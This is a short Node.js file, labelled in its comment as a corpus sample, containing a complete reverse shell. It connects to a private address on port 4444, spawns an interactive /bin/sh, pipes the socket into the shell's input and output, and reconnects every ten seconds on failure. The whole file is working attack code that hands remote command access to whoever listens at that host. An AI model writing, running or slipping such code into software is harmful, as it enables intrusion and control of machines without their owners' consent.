// corpus: net.connect reverse shell to a private address piping the socket into a spawned /bin/sh
'use strict';
const net = require('net');
const { spawn } = require('child_process');

function connect() {
  const sock = net.connect({ host: '192.168.56.101', port: 4444 }, () => {
    const sh = spawn('/bin/sh', ['-i']);
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
    sh.on('exit', () => sock.end());
  });
  sock.on('error', () => setTimeout(connect, 10000));
}
connect();
